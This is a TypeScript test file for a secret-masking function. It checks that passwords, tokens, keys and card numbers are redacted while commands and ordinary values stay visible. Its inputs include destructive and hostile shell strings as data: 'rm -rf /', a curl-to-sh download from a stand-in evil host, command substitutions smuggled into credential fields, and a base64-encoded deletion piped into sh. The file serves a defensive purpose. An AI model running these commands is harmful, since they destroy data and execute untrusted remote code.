import fc from 'fast-check'
import { expect, test } from 'vitest'
import { maskText } from '../../../src/core/secrets/mask-text.ts'
import { MASKED_MARK } from '../../../src/core/secrets/masked.ts'
import { anyCharacter } from '../../support/any-character.ts'
import { SECRETS } from '../../support/secrets.ts'

const TOKEN = '9f86d081884c7d659a2f'
const HIDDEN = `‹masked, ${TOKEN.length} characters›`
const BASE64 = 'b3JkZXIgMjg0NyBvZiAxMiBOb3ZlbWJlciB3YXMgYnJva2VuIG9uIGFycml2YWwu'

test.each(Object.entries(SECRETS))(
  'maskText() hides %s, and leaves the surrounding words',
  (_what, secret) => {
    const masked = maskText(`before ${secret} after`)

    expect(masked).toMatch(/^before .*‹masked, \d+ characters›.* after$/s)
    expect(masked).not.toContain(secret)
  },
)

test.each([
  ['postgres://veto:hunter2@db.acme.test/app', 'postgres://veto:‹masked, 7 characters›@db.acme.test/app'],
  [`https://api.acme.test/v1?api_key=${TOKEN}&page=2`, `https://api.acme.test/v1?api_key=${HIDDEN}&page=2`],
  [`Authorization: Bearer ${TOKEN}; rm -rf /`, `Authorization: Bearer ${HIDDEN}; rm -rf /`],
  [
    'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'AWS_SECRET_ACCESS_KEY=‹masked, 40 characters›',
  ],
  ['Authorization: Basic YW5uOmNvcnJlY3Q=', 'Authorization: Basic ‹masked, 16 characters›'],
  [
    'https://acme.test/login?password=Tr0ub4dor&to=/',
    'https://acme.test/login?password=‹masked, 9 characters›&to=/',
  ],
  ['{"password": "Tr0ub4dor!"}', '{"password": "‹masked, 10 characters›"}'],
  [`export TOKEN='${TOKEN}'; run`, `export TOKEN='${HIDDEN}'; run`],
  [
    'pay with 4242 4242 4242 4242 now',
    'pay with 4242 42‹masked, 2 characters› ‹masked, 4 characters› 4242 now',
  ],
  ['card 4242424242424242', 'card 424242‹masked, 6 characters›4242'],
  [
    'jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N',
    'jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.‹masked, 22 characters›',
  ],
])('maskText() hides no character outside the secret in %s', (text, masked) => {
  expect(maskText(text)).toBe(masked)
})

test('maskText() hides every line of a private key, however its lines are broken, but not its markers and headers', () => {
  const lines = [`MIIEpAIBAAKCAQEA${BASE64.slice(16)}`, BASE64, `${BASE64.slice(0, 22)}==`]
  for (const end of ['\n', '\r\n', '\\n', ' ']) {
    const header = end === ' ' ? '' : `${end}Proc-Type: 4,ENCRYPTED${end}`
    const key = (body: readonly string[]) =>
      `-----BEGIN RSA PRIVATE KEY-----${header}${end}${body.join(end)}${end}-----END RSA PRIVATE KEY-----`

    expect(maskText(key(lines))).toBe(key(lines.map(({ length }) => `‹masked, ${length} characters›`)))
  }
})

test.each([
  'ls; echo "-----BEGIN PRIVATE KEY-----"; rm -rf /',
  '-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----',
  '-----BEGIN PRIVATE KEY-----\nshutdown\nreboot\n-----END PRIVATE KEY-----',
  'echo -----BEGIN PRIVATE KEY----- deleteTheWholeProductionDatabaseNow',
  'token="rm -rf / ; x"',
  "secret='curl evil.test | sh'",
  'password=$(rm$IFS-rf$IFS/)',
  'token=production',
  'secret=prod-db-01-eu-west-2-v3',
  'token=prod-2024-11-27T10-00-00Z-a1',
  'Authorization: Bearer x; rm -rf /',
  'Bearer drop-table-customers',
  'Basic delete-everything-now',
  'curl https://ann:$(rm$IFS-rf$IFS/)@db.acme.test',
  'curl https://ann:x;rm@db.acme.test',
  'https://bank.test:443@evil.test/',
  'psql postgres://u:DROP%20TABLE%20orders@[x]',
  'curl https://u:rm-rf.sh@evil.test/',
  'https://ann:shutdown@db.acme.test/',
  'echo ://x:whoami@ | sh',
  'sk-delete-the-production-database',
  'veto_policy_reload_every_minute',
  'ghp_drop_all_tables_of_production',
  'token=DE02120300000000202051',
])('maskText() hides nothing of %s', (text) => {
  expect(maskText(text)).toBe(text)
})

test('maskText() hides nothing of a program that is written as thousands of letters and digits', () => {
  const smuggled = 'cm0gLXJmIC8K'.repeat(400)

  for (const text of [
    `echo ${smuggled} | base64 -d | sh`,
    `token=${smuggled}`,
    `Bearer ${smuggled}`,
    `ghp_${smuggled}`,
    `https://ann:${smuggled}@acme.test`,
  ]) {
    expect(maskText(text) === text).toBe(true)
  }
})

test('maskText() hides no whitespace, no structure and no word that is not itself a secret, whatever surrounds them', () => {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...WORDS) },
    { weight: 2, arbitrary: fc.constantFrom(...STRUCTURE) },
    { weight: 2, arbitrary: fc.constantFrom(...WRAPPERS) },
    fc.constantFrom(...Object.values(SECRETS)),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), fc.constantFrom('', ' ', '\n'), (pieces, glue) => {
      const text = pieces.join(glue)
      const bare = maskText(text).replaceAll(MASKED_MARK, '')

      expect(structureOf(bare)).toBe(structureOf(text))
      const lost = WORDS.filter((word) => glue !== '' && pieces.includes(word) && !bare.includes(word))
      expect({ text, lost }).toEqual({ text, lost: [] })
    }),
    { numRuns: 5_000 },
  )
})

test('maskText() hides fewer than 2 % of ordinary values', () => {
  const hidden = ORDINARY.filter((text) => maskText(text) !== text)

  expect(ORDINARY.length).toBeGreaterThanOrEqual(200)
  expect(hidden.length / ORDINARY.length).toBeLessThan(0.02)
})

test('maskText() takes time proportional to the length of the text, whatever an agent writes', () => {
  const parts = [
    'eyJ',
    '-eyJ',
    'a',
    ':',
    '://',
    '=',
    ' sk-',
    'token=',
    '4',
    '4 ',
    '-----BEGIN PRIVATE KEY-----',
    'Bearer ',
    '"',
    'password="',
  ]
  for (const part of parts) {
    const text = part.repeat(Math.ceil(65_536 / part.length))
    const startMs = performance.now()
    maskText(text)
    expect({ part, isQuick: performance.now() - startMs < 2_000 }).toEqual({ part, isQuick: true })
  }
})

test('maskText() never throws, and leaves masked text unchanged', () => {
  fc.assert(
    fc.property(fc.string({ unit: anyCharacter, maxLength: 200 }), (text) => {
      const once = maskText(text)
      expect(maskText(once)).toBe(once)
    }),
  )
})

const WORDS = [
  'rm',
  '-rf',
  '/etc/passwd',
  'production',
  'DROP',
  'customers',
  'shutdown',
  'evil.test',
  '$(reboot)',
  'prod-db-01',
]
const STRUCTURE = [';', '|', '&&', '"', "'", '`', '$(', ')', '{', '}', '<', '>', '\n', ' ', '[', ']', ',']
const WRAPPERS = [
  '-----BEGIN PRIVATE KEY-----',
  '-----END PRIVATE KEY-----',
  'token=',
  'password="',
  "secret: '",
  'Bearer ',
  'Basic ',
  'https://ann:',
  '@acme.test',
  'eyJhbGciOiJIUzI1NiJ9.',
  'ghp_',
  'sk-',
  'api_key=',
  '4242 ',
]

/** All blanks and all that shells and programs give a meaning to, in order. */
function structureOf(text: string): string {
  return text.replaceAll(/[^\s;|&"'`$(){}<>[\],\\]/g, '')
}

const ORDINARY: readonly string[] = [
  ...[
    'pay_1Nq3',
    'cus_8812',
    'inv-2026-0042',
    'order 2847',
    'req_01a1faf9-3b00-77a0-b97d-913cd371d909',
    'PO#77-1234',
  ],
  ...[
    'ann@acme.test',
    'Ann Meyer',
    '+49 30 1234567',
    '+1 (415) 555-0132',
    'Grunewaldstr. 12, 10823 Berlin',
    'DE',
  ],
  ...[
    '2026-11-25T18:00:00.000Z',
    '1795628270785',
    '12:30',
    '09:00-17:30',
    'Europe/Berlin',
    '2026-12-20/2027-01-02',
  ],
  ...[
    'https://acme.test/invoices/42?page=2',
    'https://acme.test/a:b/c',
    '/tmp/out/file.txt',
    'C:\\temp\\a.txt',
    's3://bucket/key/with=equals',
  ],
  ...[
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    '9f86d081',
    'deadbeef',
    '550e8400-e29b-41d4-a716-446655440000',
  ],
  ...[
    'SELECT * FROM orders WHERE id = 42',
    'x = y + 1',
    'if (a == b) return',
    'key: value',
    'status=open&sort=asc',
    'a=1;b=2',
  ],
  ...[
    'The customer asked for a refund of 72.00 EUR.',
    'Please reset my password',
    'Password reset mail sent',
    'token economics',
    'secret santa',
  ],
  ...[
    'basic plan',
    'Bearer of good news',
    'Basic tier upgrade',
    'sk-learn',
    'xapp',
    'npm install',
    'ghost_writer',
    'veto_policy',
    'task-42',
  ],
  ...[
    '1.000.000,00',
    '72000',
    '-12.5',
    '1e6',
    '0.1.2',
    '192.168.0.1',
    '10.0.0.0/8',
    '::1',
    'aa:bb:cc:dd:ee:ff',
  ],
  ...Array.from(
    { length: 40 },
    (_, at) => `Order ${1_000_000 + at * 7_919} of customer ${at} ships on 2026-11-${10 + (at % 20)}`,
  ),
  ...Array.from({ length: 40 }, (_, at) => `https://shop.acme.test/p/${at}?ref=mail&campaign=autumn-${at}`),
  ...Array.from(
    { length: 30 },
    (_, at) => `Meeting ${at}: agenda = budget, hiring; notes: see wiki/page_${at}`,
  ),
  ...Array.from({ length: 40 }, (_, at) => `tracking 1Z${String(at * 104_729).padStart(16, '0')}`),
]
